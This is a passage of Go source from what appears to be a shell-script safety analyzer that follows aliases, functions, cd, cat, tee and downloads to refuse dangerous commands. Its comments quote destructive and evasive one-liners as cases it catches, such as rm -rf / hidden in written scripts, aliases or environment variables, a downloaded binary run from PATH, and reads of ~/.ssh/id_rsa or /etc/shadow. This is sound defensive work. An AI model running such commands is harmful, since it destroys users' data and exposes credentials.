type place struct {
	scope        *scope
	region, ends int
}

// here is the place of the statement being walked.
func (w *walker) here() place { return place{w.scope, w.mayRegion, w.ends} }

// keep adds t to the texts the file may hold instead of its last.
func (f *fileInfo) keep(t []byte) {
	if string(t) == tooManyTexts {
		f.overflow = true
		return
	}
	if string(t) == string(f.text) || slices.ContainsFunc(f.older, func(o []byte) bool { return string(o) == string(t) }) {
		return
	}
	f.older = append(f.older, t)
	if len(f.older) > maxOlder {
		f.older = f.older[:maxOlder]
		f.overflow = true // refused where it is read
	}
}

// keepCompanion keeps t as the companion text at *at (1 + its index in
// older, see fileInfo.joined), unless that one is there already.
func (f *fileInfo) keepCompanion(at *int, t []byte) {
	if *at == 0 || *at > len(f.older) {
		f.keep(t)
		*at = 1 + slices.IndexFunc(f.older, func(o []byte) bool { return string(o) == string(t) })
	}
}

// noteUnknownAppend notes an append of text the walk cannot tell to
// files whose text ends in the middle of a line: it may write nothing,
// or end the line (printf 'K=' >> f; git describe >> f). As for a
// pipeline's output, the file keeps two readings of such appends, not
// one text per append: its text has a line for each, and its joined
// text, kept among the older ones, nothing; the older texts get
// nothing too.
func (w *walker) noteUnknownAppend(outs []output) {
	for _, o := range outs {
		info, ok := w.files[o.path]
		if !ok || !o.appends || info.downloaded || info.text == nil || wholeLines(info.text) {
			continue
		}
		before := slices.Clip(info.text)
		info.text = append(info.text, dynMark+"\n"...)
		info.keepCompanion(&info.joined, before)
		info.known = false
		w.files[o.path] = info
	}
}

// surelyRuns reports whether the statement being walked runs wherever
// the walk reaches it, before what comes after it: outside code that
// may not run, function bodies, statements judged again, and any
// subshell, $( ), pipeline stage or background job (exit, set -e, kill
// or ulimit -f there end it early; a stage or a job runs beside what
// follows).
func (w *walker) surelyRuns() bool {
	return w.maybes == 0 && w.inShellItself()
}

// inShellItself reports whether the statement being walked is the
// shell's own, walked once where it runs: not in a function's body, a
// statement judged again, or a subshell.
func (w *walker) inShellItself() bool {
	return len(w.funcs) == 0 && w.rewalking == 0 && w.scope.parent == nil
}

// downloadedOutput marks the files a statement wrote its stdout to as
// downloaded when it read downloaded stdin or ran a command whose output
// may be a download (see the count of them in analysis).
func (w *walker) downloadedOutput(outs []output, before int, stdinDL bool) {
	if stdinDL || w.a.downloads > before {
		for _, o := range outs {
			w.noteDownloaded(o.path)
		}
	}
}

// bashBuiltins are found before any PATH lookup.
var bashBuiltins = [...]string{":", ".", "[", "alias", "bg", "bind", "break", "builtin", "caller", "cd",
	"command", "compgen", "complete", "compopt", "continue", "declare", "dirs", "disown", "echo", "enable",
	"eval", "exec", "exit", "export", "false", "fc", "fg", "getopts", "hash", "help", "history", "jobs",
	"kill", "let", "local", "logout", "mapfile", "popd", "printf", "pushd", "pwd", "read", "readarray",
	"readonly", "return", "set", "shift", "shopt", "source", "suspend", "test", "times", "trap", "true",
	"type", "typeset", "ulimit", "umask", "unalias", "unset", "wait"}

func isBashBuiltin(name string) bool { return slices.Contains(bashBuiltins[:], name) }

// downloadedOnPath reports whether the request downloaded a file of this
// name into a bin directory, or one of a PATH it set, where running the
// name finds it.
// raw is the command as written, wrappers and their NAME=value included.
func (w *walker) downloadedOnPath(name string, raw []field) bool {
	onPath := w.dl.onPath[name] || w.dl.binDir
	if !onPath && w.dl.parents == nil {
		return false // nothing downloaded: no need to look the name up
	}
	if raw[0].s == name && (isBashBuiltin(name) || w.scope.fn(name) != nil) {
		return false // run directly, a builtin or a function is found first
	}
	if onPath {
		return true
	}
	for _, d := range w.pathDirs(raw) {
		if w.isDownloaded(path.Join(d, name)) {
			return true
		}
	}
	return false
}

// writtenStdin gives c, whose stdin is the file f, the text the request
// wrote to it (echo 'rm -rf /' > x.sh; sh < x.sh).
func (w *walker) writtenStdin(c *ctx, f field) {
	if !f.known() || w.files == nil {
		return
	}
	info := w.files[w.resolvePath(f.s)]
	if info.text == nil || info.downloaded {
		return
	}
	if !w.chargeText(info.size(), "< "+f.s) {
		return
	}
	// Too many texts are refused where a shell reads them (grep x < f
	// is not).
	c.stdinText, c.stdinKnown, c.stdinOthers = string(info.text), info.known, info.others()
}

// chargeFileText counts the text of a file the request wrote, about to be
// judged (echo ... >> f; . ./f over and over judges it each time),
// against maxFileText, and refuses the request past it.
func (w *walker) chargeFileText(info fileInfo, via string) bool {
	if info.overflow {
		w.fail("the request may leave more than %d texts in a file it reads (%s); the policy cannot follow them all", maxOlder+1, via)
		return false
	}
	return w.chargeText(info.size(), via)
}

// chargeText counts n bytes of text of files the request wrote against
// maxFileText, and refuses the request past it.
func (w *walker) chargeText(n int, via string) bool {
	if w.fileBytes += n; w.fileBytes > maxFileText {
		w.fail("more than %d MiB of text of files the request wrote to judge (%s)", maxFileText>>20, via)
		return false
	}
	return true
}

// maxOlder bounds the texts a file may hold besides the last.
const maxOlder = 8

// maxFileText bounds the bytes of text of files the request wrote that
// running them judges; beyond, the request is refused.
const maxFileText = 3 * MaxScriptSize

// runFile judges a file the request runs as code: deny it when it was
// downloaded earlier in the request, judge its text when that is known.
func (w *walker) runFile(s *simple, f field, via string) {
	if !f.known() || w.files == nil && w.dl.dirs == nil {
		return
	}
	p := w.resolvePath(f.s)
	if w.isDownloaded(p) {
		s.runsDL = true
		return
	}
	info := w.files[p]
	if info.text == nil || !w.chargeFileText(info, via) {
		return
	}
	// A text it may hold instead may be known in part even where the last
	// is known (echo "${CMD:-true} -rf /" > x.sh). It runs from where the
	// file is run: the caller makes a subshell for a child.
	var older []string
	for _, t := range info.older {
		older = append(older, string(t))
	}
	w.runTexts(string(info.text), info.known, older, via, false)
}

func isFD(s string) bool {
	s = strings.TrimSuffix(s, "-")
	if s == "" {
		return true
	}
	for _, r := range s {
		if r < '0' || r > '9' {
			return false
		}
	}
	return true
}

// specialBuiltin reports whether name is one of POSIX's special
// builtins, before which an assignment outlives the command in dash.
func specialBuiltin(name string) bool {
	switch name {
	case ":", ".", "break", "continue", "eval", "exec", "exit", "export", "readonly", "return", "set", "shift", "times", "trap", "unset":
		return true
	}
	return false
}

func (w *walker) call(x *syntax.CallExpr, c ctx) {
	// bash expands a command's words before its redirections: what a
	// substitution there writes to a descriptor but stdout goes where
	// it went before them ({ : "$(echo x >&3)" 3>/dev/null; } 3>&1).
	argFDs, set := w.argFDs, w.argFDsSet
	w.argFDsSet = false
	var redirected fdTable
	words := func(on bool) {
		if !set {
			return
		}
		if on {
			redirected = w.fds
			argFDs[1] = redirected[1]
			w.fds = argFDs
		} else {
			w.fds = redirected
		}
	}
	keep := len(x.Args) == 0
	words(true) // x="$(...)" too
	out := w.fds[1]
	if keep {
		// msg=$(echo "can't"): what it writes goes into the variable.
		w.fds[1] = toElsewhere
	}
	for _, as := range x.Assigns {
		w.assign(as, keep)
	}
	w.fds[1] = out
	words(false)
	if !keep && len(x.Assigns) > 0 {
		// T=/ bash -c 'rm -rf $T': the assignments are the command's
		// environment, seen by shells it starts (not by its own words).
		defer func(saved *scope) { w.scope = saved }(w.scope)
		env := w.scope.fork()
		words(true)
		for _, as := range x.Assigns {
			if as.Name != nil && as.Index == nil && !as.Append {
				var v field // IFS= read -r x: the empty value
				if as.Value != nil {
					v = w.wordString(as.Value)
				}
				env.set(as.Name.Value, v)
			}
		}
		words(false)
		fields := fromPool(&w.spareArgs, len(x.Args)+1, 4)
		words(true)
		for _, a := range x.Args {
			fields = w.appendWord(fields, a)
		}
		words(false)
		if len(fields) > 0 {
			w.unknownNameAssigns(x.Args, fields) // eval "a=1 $n=/"
			w.scope = env
			w.ownArgs = true
			w.command(fields, c, "")
			// X=1 cd /, X=1 f, X=1 eval ...: a builtin or function
			// changes this shell all the same; only X is put back.
			env.parent.keep(env, func(k string) bool { return assigned(x.Assigns, k) })
			if specialBuiltin(fields[0].s) {
				// dash and bash's POSIX mode keep X past a special
				// builtin (x= :): its value is another one there.
				for _, as := range x.Assigns {
					if as.Name == nil {
						continue
					}
					k := as.Name.Value
					old, had := env.parent.getQuiet(k)
					if !had {
						old = w.fromEnvironment(k)
					}
					env.parent.setBeside(k, old, env.vars[k])
				}
			}
		}
		return
	}
	fields := fromPool(&w.spareArgs, len(x.Args)+1, 4)
	saved := w.argStdinDL
	w.argStdinDL = c.stdinDL
	words(true)
	for _, a := range x.Args {
		fields = w.appendWord(fields, a)
	}
	words(false)
	w.argStdinDL = saved
	if len(fields) == 0 {
		return
	}
	w.unknownNameAssigns(x.Args, fields)
	w.ownArgs = true
	w.command(fields, c, "")
}

// unknownNameAssigns follows assignments to names the walk cannot know
// in text bash parses again (eval "$n=/", sh -c "a=1 $n=/"), which the
// walk reads with the unknown parts as ${unknownVar} (see partlyKnown):
// there NAME=value is an assignment, while in the script itself $n=/ is
// a command's name. They are assignments only where no word of args
// (fields, expanded) is a command's name.
func (w *walker) unknownNameAssigns(args []*syntax.Word, fields []field) {
	if !slices.ContainsFunc(fields, func(f field) bool { return strings.Contains(f.s, dynMark) }) {
		return // most commands: nothing unknown
	}
	for _, a := range args {
		if unknownTarget(a) == "" && !assignShaped(a) {
			return // a command: the assignments are its environment
		}
	}
	for i, a := range args {
		n := unknownTarget(a)
		if n == "" {
			continue
		}
		v := anyValue()
		if len(fields) == len(args) {
			_, val, _ := strings.Cut(fields[i].s, "=")
			v = field{s: val, dyn: strings.Contains(val, dynMark), dl: fields[i].dl, dec: fields[i].dec, emptyable: fields[i].emptyable}
		}
		w.setUnknownName(n, v)
	}
}

// unknownTarget returns what the word a assigns when it is NAME=value
// with an unknown part of the name read as ${unknownVar}: the name
// (with dynMark, and [subscript] or + kept for setUnknownName), or "".
func unknownTarget(a *syntax.Word) string {
	if !slices.ContainsFunc(a.Parts, func(p syntax.WordPart) bool {
		pe, ok := p.(*syntax.ParamExp)
		return ok && pe.Param != nil && pe.Param.Value == unknownVar
	}) {
		return "" // most words
	}
	var name strings.Builder
	for _, p := range a.Parts {
		switch p := p.(type) {
		case *syntax.ParamExp:
			if p.Param == nil || p.Param.Value != unknownVar || !bareParam(p) {
				return ""
			}
			name.WriteString(dynMark)
			continue
		case *syntax.Lit:
			k, _, ok := strings.Cut(p.Value, "=")
			name.WriteString(k)
			if !ok {
				continue
			}
			n := name.String()
			if base, _ := varOf(n); strings.Contains(base, dynMark) && isVarName(strings.ReplaceAll(base, dynMark, "x")) {
				return n
			}
		}
		return ""
	}
	return ""
}

// release hands the commands of a top-level statement, judged and let go
// by flush, to newSimple and call (through spareArgs) to reuse. Nothing else points at
// them: rules keep strings, never a *simple, and what the walk keeps of a
// command's words (variables, arrays, positional parameters) it copies.
func (w *walker) release(cmds []*simple) {
	for _, c := range cmds {
		if c.ownsRaw {
			w.spareArgs = append(w.spareArgs, c.raw[:0])
		}
	}
	w.spare = append(w.spare, cmds...)
}

// expandAlias judges the text an alias called name expands words to.
func (w *walker) expandAlias(name string, words []field, c ctx) {
	a, ok := w.scope.alias(name)
	if !ok || slices.Contains(w.aliases, name) {
		return // bash does not expand an alias inside its own expansion
	}
	if l := w.scope.loop; l != nil && l.on > 0 {
		// alias r=echo; for ...; do r /; alias r='rm -rf'; done
		l.note(loopRead{loopKey: loopKey{name, 'l', nil}, v: field{s: a}, nFn: len(w.scope.aliasAltsOf(name))})
	}
	w.expandAliasText(name, a, words, c)
	// alias ls='rm -rf /'; false && alias ls=:; ls: each text it may have.
	for _, other := range w.scope.aliasAltsOf(name) {
		if w.a.fatal != "" {
			return
		}
		outer := w.subshell()
		w.expandAliasText(name, other, words, c)
		w.leave(outer)
	}
}

// expandAliasText judges the alias name, with the text a, expanded in
// the command words.
func (w *walker) expandAliasText(name, a string, words []field, c ctx) {
	text, rest := a, words[1:]
	// An alias ending in a blank has the next word expanded as an alias
	// too (alias e='echo '; e r).
	for last := a; len(rest) > 0 && strings.TrimRight(last, " \t") != last; rest = rest[1:] {
		next, ok := w.scope.alias(rest[0].s)
		if !ok || !rest[0].known() || slices.Contains(w.aliases, rest[0].s) {
			break
		}
		text += " " + next
		last = next
	}
	for _, f := range rest {
		text += " " + shellQuote(f.s)
	}
	w.aliases = append(w.aliases, name)
	if strings.Contains(text, dynMark) {
		// alias x="rm -rf /$(true)": as eval of text known in part.
		w.shellString(field{s: text, dyn: true}, nil, "alias "+name, c)
	} else {
		w.script(text, "alias "+name, c)
	}
	w.aliases = w.aliases[:len(w.aliases)-1]
}

// assigned reports whether the assignments set name.
func assigned(as []*syntax.Assign, name string) bool {
	for _, a := range as {
		if a.Name != nil && a.Name.Value == name {
			return true
		}
	}
	return false
}

// progName returns the base name of a program word, the way the other
// rules compare it: without directory, without a Windows .exe suffix.
func progName(f field) string {
	if f.dyn {
		return ""
	}
	s := f.s
	if i := lastSlash(s); i >= 0 {
		s = s[i+1:]
	}
	if len(s) > 4 && strings.EqualFold(s[len(s)-4:], ".exe") {
		s = strings.ToLower(s[:len(s)-4])
	}
	return s
}

// guessedCommand judges the command raw again with each word that is a
// default taken for a variable the walk does not know (field.guess) in
// its other reading, where the variable may hold anything: as a name
// (${CC:-gcc} -o x may be rm), an option (rm -${Y:-f} /), or a program
// another runs (xargs ${Y:-echo} -rf, ssh host "${Y:-echo} -rf /"). argv
// is raw with its wrappers unwrapped. A function or a builtin (cd, echo,
// export) whose name is no guess is left alone: its words' other readings
// travel on in the values it sets and the text it writes, and walking a
// function or a cd twice would change what comes after.
func (w *walker) guessedCommand(raw, argv []field, c ctx, via string) {
	// A word known in part has an other reading worth judging only where
	// it may be empty (${x-/tmp/y}$z/*, with z and x set empty, is /*).
	judged := func(f field) bool { return f.guess != nil && (f.known() || mayBeEmpty(f.guess)) }
	i := slices.IndexFunc(raw, judged)
	if i < 0 {
		return
	}
	if len(argv) > 0 && argv[0].guess == nil {
		if name := progName(argv[0]); w.scope.fn(name) != nil || isBashBuiltin(name) {
			return
		}
	}
	alt := slices.Clone(raw)
	for j := i; j < len(alt); j++ {
		if judged(alt[j]) {
			alt[j] = alt[j].otherReading()
		}
	}
	w.command(alt, c, via)
}

// command judges one simple command given as fields.
func (w *walker) command(raw []field, c ctx, via string) {
	owned := w.ownArgs
	w.ownArgs = false
	if w.a.fatal != "" || len(raw) == 0 {
		return
	}
	u := w.unwrap(raw, c)
	w.guessedCommand(raw, u.argv, c, via)
	for _, f := range u.reads {
		w.addPath(f, false, false)
	}
	if u.child {
		// sudo cd /tmp, env f: the program runs in another process,
		// where a builtin or a function changes nothing here.
		defer w.leave(w.subshell())
	}
	for _, a := range u.env {
		// env T=/ sh -c 'rm -rf $T': the program and what it starts see T.
		k, v, _ := strings.Cut(a.s, "=")
		w.scope.set(k, field{s: v, dyn: a.dyn, dl: a.dl, dec: a.dec, guess: valueGuess(a, k)})
	}
	if u.cwd != "" {
		saved := w.scope.cwd
		w.scope.cwd = w.resolvePath(u.cwd)
		defer func() { w.scope.cwd = saved }()
	}
	if u.stop || len(u.argv) == 0 {
		w.record(w.newSimple(simple{raw: raw, argv: raw, name: progName(raw[0]), cwd: w.scope.cwd, stay: w.scope.stay, c: c, via: via, ownsRaw: owned}))
		w.expandAlias(progName(raw[0]), raw, c) // a bare "command" or "sudo"
		w.guessRuns(u.guess, c, progName(raw[0]))
		if len(u.argv) > 0 && progName(u.argv[0]) == "sudo" && hasFlag(u.argv, "e", "edit") {
			w.envCode("sudo -e", "SUDO_EDITOR VISUAL EDITOR") // sudoedit
		}
		return
	}
	argv := u.argv
	if u.xargs && c.stdinKnown && !slices.ContainsFunc(c.stdinOthers, func(t string) bool { return strings.Contains(t, dynMark) }) {
		// echo / | xargs rm -rf: the operands are known after all, those
		// of each text stdin may hold.
		split := func(r rune) bool { return r == 0 || r == ' ' || r == '\t' || r == '\n' }
		words := strings.FieldsFunc(c.stdinText, split)
		for _, t := range c.stdinOthers {
			words = append(words, strings.FieldsFunc(t, split)...)
		}
		argv = append(append([]field{}, argv...), litFields(words...)...)
		u.xargs = false
	} else if u.xargs && c.stdinUnder != nil && xargsTakesEachWhole(raw) {
		// find DIR -print0 | xargs -0 rm -rf: each operand is inside a
		// DIR, which stands for them all, the worst of them.
		argv = append(append([]field{}, argv...), litFields(c.stdinUnder...)...)
		u.xargs = false
	}
	name := progName(argv[0])
	s := w.newSimple(simple{raw: raw, argv: argv, name: name, cwd: w.scope.cwd, stay: w.scope.stay, c: c, xargs: u.xargs, via: via, ownsRaw: owned})
	for _, f := range argv[1:] {
		s.argDL = s.argDL || f.dl
		s.argDec = s.argDec || f.dec
	}
	if argv[0].dl {
		s.argDL = true
	}
	if name != "" && len(w.funcs) > 0 && (c.pipeline || c.background) {
		for _, f := range w.funcs {
			if f == name {
				w.a.forkBomb = name
			}
		}
	}
	w.record(s)
	// bash expands an alias of the word as written, before command,
	// builtin or sudo would be looked through (alias command='rm -rf').
	w.expandAlias(progName(raw[0]), raw, c)
	if name == "" {
		w.dynamicCommand(s)
		return
	}
	readsDL := w.readsDownload(argv)
	if isDownloader(name) || readsDL {
		w.a.downloads++ // what it prints may be a download
	}
	if raw[0].s != argv[0].s {
		w.expandAlias(name, argv, c)
	}
	body, others := w.scope.fn(name), w.scope.fnAltsOf(name)
	if l := w.scope.loop; l != nil && l.on > 0 {
		// f() { echo; }; for ...; do f /; f() { rm -rf "$1"; }; done
		l.note(loopRead{loopKey: loopKey{name, 'f', nil}, fn: body, nFn: len(others)})
	}
	if body != nil {
		if len(others) > 0 {
			w.scope.noteRead(fnRead + name) // judged again with each other body
		}
		w.callFunc(name, body, argv, c)
	}
	if hasSlash(argv[0].s) {
		// Running a file reads it: ~/.ssh/id_rsa run as a program (sudo
		// ~/.ssh/id_rsa, nohup /etc/shadow) names a denied path as much
		// as cat does.
		if !strings.HasPrefix(argv[0].s, "-") { // a broken line's --flag=dir/file, not a program
			w.addPath(argv[0], false, false)
		}
		// ./install.sh written earlier runs in its own shell.
		outer := w.subshell()
		restore := w.withoutGuards()
		w.runFile(s, argv[0], argv[0].s)
		restore()
		w.leave(outer)
	} else if w.downloadedOnPath(name, raw) {
		s.runsDL = true // curl x > /usr/local/bin/x; x
	}
	if body == nil {
		switch {
		case (name == "break" || name == "continue") && (len(argv) == 1 || len(argv) == 2 && argv[1].s == "1"):
			w.breaks++
		case name == "break" || name == "continue" || name == "return":
			w.returns++ // break 2 leaves more than the innermost loop
		case name == "exit":
			w.judgeExitTraps()
		}
	}
	switch name {
	case "break", "continue", "return", "exit", "set", "kill", "ulimit", "exec":
		w.ends++ // what comes after may not run (see fileInfo.set)
	}
	w.special(s)
	w.embeddedCode(s)
	w.copyDownloads(s)
	if readsDL || c.stdinDL {
		w.fillDownloads(s)
	}
	if s.name == "tee" && followed(c.stdinText, c.stdinKnown, c.stdinOthers) {
		w.teeWrites(s, c)
	}
	if s.name == "cat" && len(s.argv) > 1 {
		w.catFiles(s, c)
	}
	w.argPaths(s)
}

// catFiles gives s, a cat of files, what it writes when the request wrote
// some of them or stdin is known (echo 'rm -rf /' > x.sh; cat x.sh | sh,
// echo ... | cat - | sh): theirs, stdin's, dynMark for the others.
func (w *walker) catFiles(s *simple, c ctx) {
	stdin := followed(c.stdinText, c.stdinKnown, c.stdinOthers)
	// copied returns what cat copies from its operand a, and whether it
	// can tell; ok is false where cat does something else.
	copied := func(a field) (info fileInfo, ok bool) {
		switch {
		case readsStdinPath(a.s):
			// Any name that may be stdin: /dev/./stdin, /dev/fd/00, a
			// copy of it (exec 3<&0; cat /dev/fd/3), /dev/std*.
			if stdin {
				info := fileInfo{text: []byte(c.stdinText), known: c.stdinKnown}
				for _, t := range c.stdinOthers {
					info.keep([]byte(t)) // tooManyTexts too
				}
				return info, true
			}
		case strings.HasPrefix(a.s, "-") || !a.known():
			return fileInfo{}, false // cat -n numbers the lines; an unknown name
		case w.files != nil:
			if info := w.files[w.resolvePath(a.s)]; info.text != nil && !info.downloaded {
				return info, true // with too many texts, refused where run
			}
		}
		return fileInfo{}, true
	}
	// The operands: after --, every word is one; before, -u changes
	// nothing.
	ops := func(yield func(field) bool) {
		for i, a := range s.argv[1:] {
			if a.s == "--" {
				for _, b := range s.argv[i+2:] {
					if !yield(b) {
						return
					}
				}
				return
			}
			if a.s != "-u" && !yield(a) {
				return
			}
		}
	}
	// Most cats copy nothing the request wrote: look before building.
	var buf [4]fileInfo
	infos, some := buf[:0], false
	for a := range ops {
		info, ok := copied(a)
		if !ok {
			return
		}
		if info.text == nil {
			info = fileInfo{text: []byte(dynMark)}
		} else {
			some = true
		}
		infos = append(infos, info)
	}
	if !some {
		return
	}
	// What it copies is each operand's last text, one after another, or
	// that with one operand's other text: count before building (cat f f
	// ... f of a file with nine texts).
	size, variants, overflow := 0, 0, false
	for _, info := range infos {
		size += len(info.text)
		variants += len(info.older)
		overflow = overflow || info.overflow
	}
	if variants > maxOlder {
		// Refused where a shell reads what it copies, not here.
		overflow, variants = true, 0
	}
	if !w.chargeText(size*(1+variants), "cat") {
		return
	}
	join := func(i int, t []byte) []byte {
		var b []byte
		for j, info := range infos {
			if j == i {
				b = append(b, t...)
			} else {
				b = append(b, info.text...)
			}
		}
		return b
	}
	out := fileInfo{known: true, text: join(-1, nil), overflow: overflow}
	for i, info := range infos {
		out.known = out.known && info.known
		for _, t := range info.older {
			if !out.overflow {
				out.keep(join(i, t))
			}
		}
	}
	s.catOut = &out
}

// teeWrites remembers what tee wrote to its files: its stdin, known in
// whole or in part (echo 'rm -rf /' | tee i.sh; sh i.sh).
func (w *walker) teeWrites(s *simple, c ctx) {
	appends := false
	var outs []output
	for _, a := range s.argv[1:] {
		// --app: GNU tee takes any unambiguous prefix of a long option.
		if len(a.s) > 2 && strings.HasPrefix("--append", a.s) || strings.HasPrefix(a.s, "-") && !strings.HasPrefix(a.s, "--") && strings.Contains(a.s, "a") {
			appends = true
		}
	}
	for _, f := range operands(s.argv) {
		p := f.s
		if f.known() {
			p = w.devPath(f.s)
		}
		if f.glob || f.known() && w.mayBeDev(&w.fds, f.s) {
			s.outTo = toAnywhere // tee /de?/stdout, or a link to it
		}
		if d, dev := devTarget(&w.fds, p); dev {
			// tee /dev/stderr: it writes there too, maybe the pipe.
			if sinkish(d) && d != s.outTo {
				if sinkish(s.outTo) {
					s.outTo = toAnywhere // both
				} else {
					s.outTo = d
				}
			}
			continue
		}
		if f.known() && f.s != "" {
			outs = append(outs, output{w.resolvePath(f.s), appends})
		}
	}
	w.noteWritten(outs, c.stdinText, c.stdinKnown, c.stdinOthers)
}

// newSimple returns v in a command flush let go, if there is one: a large
// script records a command for nearly every line, and reusing them keeps
// the allocator and the garbage collector out of the walk.
func (w *walker) newSimple(v simple) *simple {
	n := len(w.spare)
	if n == 0 {
		s := new(simple)
		*s = v
		return s
	}
	s := w.spare[n-1]
	w.spare[n-1] = nil
	w.spare = w.spare[:n-1]
	*s = v
	return s
}

// is reports whether the command belongs to any of the classes.
func (s *simple) is(c class) bool { return s.cls&c != 0 }

func (w *walker) record(s *simple) {
	s.cls = classOf(s.name)
	s.links = &w.links
	s.outTo, s.loops = w.fds[1], w.loopLog.on
	if isDecoder(s) {
		w.a.decodes++
	}
	if len(w.a.cmds) >= w.maxCmds {
		w.fail("more than %d commands to judge", w.maxCmds)
		return
	}
	w.a.cmds = append(w.a.cmds, s)
}

// shellQuote quotes s for re-parsing as one word.
func shellQuote(s string) string {
	if s != "" && !strings.ContainsAny(s, " \t\n'\"\\$`|&;<>(){}[]*?~#!=%") {
		return s
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// joinFields joins the known text of fields with spaces.
func joinFields(fs []field) (string, bool) {
	var sb strings.Builder
	known := true
	for i, f := range fs {
		if i > 0 {
			sb.WriteByte(' ')
		}
		sb.WriteString(f.s)
		known = known && f.known()
	}
	return sb.String(), known
}

// cd follows a change of directory, so later relative paths resolve
// against the right place.
func (w *walker) cd(args []field) {
	// bash's cd reads options up to the first other word, and refuses an
	// unknown option or a second directory; dash reads them otherwise.
	ops := args
	for i, a := range args {
		if a.s == "--" {
			ops = args[i+1:]
			break
		}
		if !strings.HasPrefix(a.s, "-") || a.s == "-" || a.dyn {
			ops = args[i:]
			break
		}
		if strings.Trim(a.s[1:], "LPe") != "" {
			w.fail("cd %s: an option bash refuses, so it stays where it is; write ./%s for a directory", a.s, a.s)
			return
		}
		ops = nil
	}
	if len(ops) > 1 {
		w.fail("cd with more than one word: bash refuses it and stays where it is, dash goes to the first")
		return
	}
	if len(ops) == 1 && !ops[0].dyn && w.cdPathApplies(ops[0].s) {
		w.fail("cd %s with CDPATH set: bash looks in the CDPATH directories first; write ./%s", ops[0].s, ops[0].s)
		return
	}
	old, oldAlt, oldStay := w.scope.cwd, w.scope.altCwd, w.scope.stay
	w.scope.altCwd = ""
	switch {
	case len(ops) == 0:
		// cd goes to $HOME: nowhere when it is unset or empty.
		home, ok := w.scope.get("HOME")
		switch {
		case !ok && w.p.home != "":
			w.scope.cwd = w.p.home
		case !ok || home.dyn:
			w.scope.cwd = "/" + dynMark
		case home.unset || home.s == "":
		default:
			w.scope.cwd = w.resolvePath(home.s)
		}
	case ops[0].s == "-":
		// cd - goes back to $OLDPWD.
		if prev, ok := w.lookup("OLDPWD"); ok && strings.HasPrefix(prev, "/") {
			w.scope.cwd = prev
		} else {
			w.scope.cwd = "/" + dynMark
		}
	case ops[0].dyn || ops[0].glob:
		w.scope.cwd = "/" + dynMark
	default:
		dir := w.resolvePath(ops[0].s)
		w.scope.altCwd = w.cdAlternative(ops[0].s, dir, oldAlt)
		w.scope.cwd = dir
	}
	w.cdMayFail(old, ops)
	// bash sets OLDPWD on every cd: ~- and cd - reach it. A field, not a
	// variable, unless the script set one: most scripts cd, few read it.
	// bash takes it from the PWD variable, which the script may have set
	// (PWD=/; cd x; cd -; rm -rf *), dash from where it was.
	pwd, pwdHeld := w.scope.get("PWD")
	pwdHeld = pwdHeld && (pwd.s != old || pwd.dyn || pwd.unset)
	if _, ok := w.scope.get("OLDPWD"); ok || pwdHeld || len(oldStay.dirs) > 0 || oldStay.lost {
		w.scope.set("OLDPWD", field{s: old, dyn: old == "" || strings.Contains(old, dynMark)})
		// Where an earlier cd may have failed, it may hold another:
		// x=/; false && x=/tmp; cd "$x"; cd /tmp; rm -rf "$OLDPWD".
		w.otherDirs("OLDPWD", oldStay)
		if pwdHeld {
			pwds, _ := w.scope.altsOf("PWD")
			w.scope.addAlts("OLDPWD", append(slices.Clip(pwds), pwd)...)
		}
	}
	// Likewise PWD, which ~+ reads: PWD=/etc; cd /tmp; cat ~+/x.
	if _, ok := w.scope.get("PWD"); ok {
		cwd := w.scope.cwd
		w.scope.set("PWD", field{s: cwd, dyn: cwd == "" || strings.Contains(cwd, dynMark)})
		w.otherDirs("PWD", w.scope.stay) // where this cd may have failed
	}
	w.scope.oldpwd = old
}

// cdPathApplies reports whether cd dir may look in CDPATH's directories
// first: CDPATH is set, and dir is relative and starts with neither . nor
// .. as a component.
func (w *walker) cdPathApplies(dir string) bool {
	v, ok := w.scope.get("CDPATH")
	if !ok || v.unset || v.s == "" && !v.dyn || strings.HasPrefix(dir, "/") {
		return false
	}
	first, _, _ := strings.Cut(dir, "/")
	// cd '' goes to CDPATH's first directory too.
	return first != "." && first != ".." && dir != "-"
}

// cdAlternative returns the other directory cd dir may enter: its
// physical target when it goes through a link or X/.., or dir from the
// other directory an earlier cd may have entered; "" when there is none.
func (w *walker) cdAlternative(dir, lexical, oldAlt string) string {
	if alts := w.pathAlternatives(dir, lexical); len(alts) > 0 {
		return alts[0]
	}
	if oldAlt != "" && !strings.HasPrefix(dir, "/") && !windowsShaped(oldAlt) {
		return physical(oldAlt+"/"+dir, w.scope.cwd, w.links)
	}
	return ""
}

// resolvePath normalises a word that names a path, seeing through the
// /proc/PID/root and /proc/PID/cwd aliases of / and a cwd.
func (w *walker) resolvePath(s string) string {
	p := w.resolvePlain(s)
	if !viaProc(s, w.scope.cwd) || !strings.HasPrefix(p, "/") || strings.HasPrefix(s, dynMark) {
		return p
	}
	cwd := w.scope.cwd
	if cwd == "" {
		cwd = "/" + dynMark
	}
	if !strings.HasPrefix(s, "/") {
		if windowsShaped(cwd) {
			return p
		}
		s = cwd + "/" + s
	}
	return procLinks(s, cwd, "/"+dynMark)
}

func (w *walker) resolvePlain(s string) string {
	if strings.HasPrefix(s, dynMark) {
		// An unknown prefix: keep what is known below it.
		return path.Clean("/" + s)
	}
	cwd := w.scope.cwd
	if cwd == "" {
		cwd = "/" + dynMark
	}
	return resolve(s, cwd)
}

// mayOpenParen reports whether the word w may expand to text that starts
// with "(": quoted, escaped or from an expansion, after any empty quotes.
func mayOpenParen(w *syntax.Word) bool {
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			if p.Value != "" {
				return strings.HasPrefix(p.Value, "(") || strings.HasPrefix(p.Value, `\(`)
			}
		case *syntax.SglQuoted:
			if p.Value != "" {
				return strings.HasPrefix(p.Value, "(")
			}
		case *syntax.DblQuoted:
			if len(p.Parts) > 0 {
				lit, ok := p.Parts[0].(*syntax.Lit)
				return !ok || strings.HasPrefix(lit.Value, "(")
			}
		case *syntax.ParamExp:
			return !p.Length // ${#a[@]}: a number
		case *syntax.ArithmExp:
			return false
		default:
			return true
		}
	}
	return false
}

// followsWordArray is followsArrayText for f, a NAME=value word
// expanded: a value that starts with ( or with unknown text.
func (w *walker) followsWordArray(name string, o declOpts, f string) bool {
	k, v, ok := strings.Cut(f, "=")
	if !ok || !strings.HasPrefix(v, "(") && !strings.HasPrefix(v, dynMark) {
		return true
	}
	return w.followsArrayText(name, o, k)
}

// followsArrayText reports whether the walk can follow a declaration by
// name, with options o, of the variable k whose value may start with (,
// and refuses it where bash reads such a value as an array's elements
// (declare -a x="(/)" makes $x /): declare and typeset with -a or -A, or
// of a name that is an array already, and local -a or -A. export,
// readonly and a plain local keep the text.
